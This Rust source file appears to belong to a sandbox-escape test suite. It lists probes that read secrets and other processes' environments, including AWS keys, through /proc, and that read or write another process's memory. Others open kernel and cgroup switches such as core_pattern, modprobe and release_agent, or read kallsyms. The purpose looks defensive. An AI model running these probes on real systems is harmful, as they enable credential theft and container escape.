//! Ways through /proc, /sys and the control groups. The machine's own switches are only opened for writing: that is refused
//! or not, and nothing is written.

use std::fs::OpenOptions;
use std::io::{Seek, SeekFrom, Write};
use std::path::Path;

use super::{Attack, Evidence, Run, append, outside_file, read, read_all, secret_file};
use crate::outcome::{At, Attempt, Stop};
use crate::targets::Targets;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "proc-self-root-write",
        says: "Writes a file outside by /proc/self/root.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| append(below("/proc/self/root", &outside_file(targets)?))),
    },
    Attack {
        name: "proc-thread-root-read",
        says: "Reads a secret by /proc/thread-self/root.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| read(below("/proc/thread-self/root", &secret_file(targets)?))),
    },
    Attack {
        name: "proc-victim-root-read",
        says: "Reads a secret by the root folder of a process outside.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| read(below(&victim(targets, "root")?, &secret_file(targets)?))),
    },
    Attack {
        name: "proc-victim-root-write",
        says: "Writes a file outside by the root folder of a process outside.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| append(below(&victim(targets, "root")?, &outside_file(targets)?))),
    },
    Attack {
        name: "proc-victim-cwd",
        says: "Writes a file by the working folder of a process outside.",
        evidence: Evidence::Changed,
        run: Run::Do(|targets| append(format!("{}/file", victim(targets, "cwd")?))),
    },
    Attack {
        name: "proc-victim-fd",
        says: "Opens the secret that a process outside has open.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| read(format!("{}/{}", victim(targets, "fd")?, targets.number("victim-fd")?))),
    },
    Attack {
        name: "proc-victim-environ",
        says: "Reads the environment of a process outside.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| read(victim(targets, "environ")?)),
    },
    Attack {
        name: "proc-all-environ",
        says: "Reads the environment of every process that /proc shows, the sandbox's own parents included.",
        evidence: Evidence::Secret,
        run: Run::Do(|_| {
            let mut found = String::new();
            for process in std::fs::read_dir("/proc").at("list /proc")?.flatten() {
                let is_own = process.file_name().to_string_lossy() == std::process::id().to_string();
                if let (false, Ok(text)) = (is_own, read(process.path().join("environ"))) {
                    let mark = |word: &&str| word.starts_with("AWS_SECRET_ACCESS_KEY=");
                    found.extend(text.split('\0').find(mark));
                }
            }
            Ok(found)
        }),
    },
    Attack {
        name: "proc-victim-mem-read",
        says: "Reads the memory of a process outside by /proc/PID/mem.",
        evidence: Evidence::Secret,
        run: Run::Do(|targets| {
            let mut memory = std::fs::File::open(victim(targets, "mem")?).at("open")?;
            memory.seek(SeekFrom::Start(address(targets)?)).at("seek")?;
            read_all(std::io::Read::take(memory, 128))
        }),
    },
    Attack {
        name: "proc-victim-mem-write",
        says: "Writes the memory of a process outside by /proc/PID/mem.",
        evidence: Evidence::Victim,
        run: Run::Do(|targets| {
            let mut memory = OpenOptions::new().write(true).open(victim(targets, "mem")?).at("open")?;
            memory.seek(SeekFrom::Start(address(targets)?)).at("seek")?;
            memory.write_all(b"ATTACKED").at("write")?;
            Ok("written".to_owned())
        }),
    },
    Attack {
        name: "proc-victim-oom",
        says: "Makes a process outside the first that the kernel ends when memory is short.",
        evidence: Evidence::Claim,
        run: Run::Do(|targets| {
            let file = victim(targets, "oom_score_adj")?;
            let mut file = OpenOptions::new().write(true).open(file).at("open for writing")?;
            file.write_all(b"1000").at("write")?;
            Ok("adjusted".to_owned())
        }),
    },
    switch(
        "proc-core-pattern",
        "/proc/sys/kernel/core_pattern",
        "Opens the setting that names the program for crashes, which the kernel runs as root.",
    ),
    switch(
        "proc-modprobe",
        "/proc/sys/kernel/modprobe",
        "Opens the setting that names the program for missing modules, which the kernel runs as root.",
    ),
    switch("proc-sysrq", "/proc/sysrq-trigger", "Opens the file by which the machine is restarted."),
    switch(
        "proc-overcommit",
        "/proc/sys/vm/overcommit_memory",
        "Opens a setting of the whole machine's memory.",
    ),
    switch("proc-printk", "/proc/sys/kernel/printk", "Opens the setting of what the kernel prints."),
    switch(
        "sys-uevent-helper",
        "/sys/kernel/uevent_helper",
        "Opens the setting that names the program for new devices, which the kernel runs as root.",
    ),
    switch("sys-profiling", "/sys/kernel/profiling", "Opens a setting of the kernel in /sys."),
    Attack {
        name: "cgroup-release-agent",
        says: "Opens the file that names the program for an empty control group, which the kernel runs as root.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| {
            let mut last = Stop::unsupported("no control group of version 1");
            for group in std::fs::read_dir("/sys/fs/cgroup").at("list /sys/fs/cgroup")?.flatten() {
                let file = group.path().join("release_agent");
                if !file.exists() {
                    continue;
                }
                match OpenOptions::new().write(true).open(&file).at("open for writing") {
                    Ok(_) => return Ok(file.display().to_string()),
                    Err(stop) => last = stop,
                }
            }
            Err(last)
        }),
    },
    Attack {
        name: "cgroup-leave",
        says: "Opens the list of processes of the topmost control group, to move there out of every limit.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| {
            let mut last = Stop::unsupported("no control groups");
            for file in [
                "/sys/fs/cgroup/cgroup.procs",
                "/sys/fs/cgroup/memory/cgroup.procs",
                "/sys/fs/cgroup/pids/cgroup.procs",
            ] {
                if !Path::new(file).exists() {
                    continue;
                }
                match OpenOptions::new().write(true).open(file).at("open for writing") {
                    Ok(_) => return Ok(file.to_owned()),
                    Err(stop) => last = stop,
                }
            }
            Err(last)
        }),
    },
    Attack {
        name: "proc-kcore",
        says: "Reads the first bytes of the kernel's memory in /proc/kcore.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| {
            let mut head = [0; 4];
            let mut file = std::fs::File::open("/proc/kcore").at("open")?;
            std::io::Read::read_exact(&mut file, &mut head).at("read")?;
            Ok(String::from_utf8_lossy(&head).into_owned())
        }),
    },
    Attack {
        name: "proc-kernel-addresses",
        says: "Reads the addresses of the kernel's functions, which exploits need.",
        evidence: Evidence::Claim,
        run: Run::Do(|_| {
            let text = read("/proc/kallsyms")?;
            let is_zero =
                |line: &str| line.split(' ').next().is_none_or(|word| word.bytes().all(|b| b == b'0'));
            let found = text.lines().take(100).find(|line| !is_zero(line));
            found.map(str::to_owned).ok_or_else(|| Stop::blocked("all addresses are zero"))
        }),
    },
];

const fn switch(name: &'static str, path: &'static str, says: &'static str) -> Attack {
    Attack { name, says, evidence: Evidence::Claim, run: Run::OpenToWrite(path) }
}

pub(super) fn below(root: &str, path: &Path) -> String {
    format!("{root}{}", path.display())
}

/// A file of the victim in /proc.
pub(super) fn victim(targets: &Targets, file: &str) -> Result<String, Stop> {
    Ok(format!("/proc/{}/{file}", targets.number("victim-pid")?))
}

/// The address of the victim's memory that is looked at afterwards.
pub(super) fn address(targets: &Targets) -> Result<u64, Stop> {
    u64::try_from(targets.number("victim-address")?).map_err(|_| Stop::unsupported("a negative address"))
}

/// Opens the files of `paths` that exist; the first that opens is the proof.
pub(super) fn first_open(paths: &[&str], reason: &str) -> Attempt {
    let mut last = Stop::unsupported(reason);
    for path in paths.iter().filter(|path| Path::new(path).exists()) {
        match std::fs::File::open(path).at("open") {
            Ok(_) => return Ok((*path).to_owned()),
            Err(stop) => last = stop,
        }
    }
    Err(last)
}
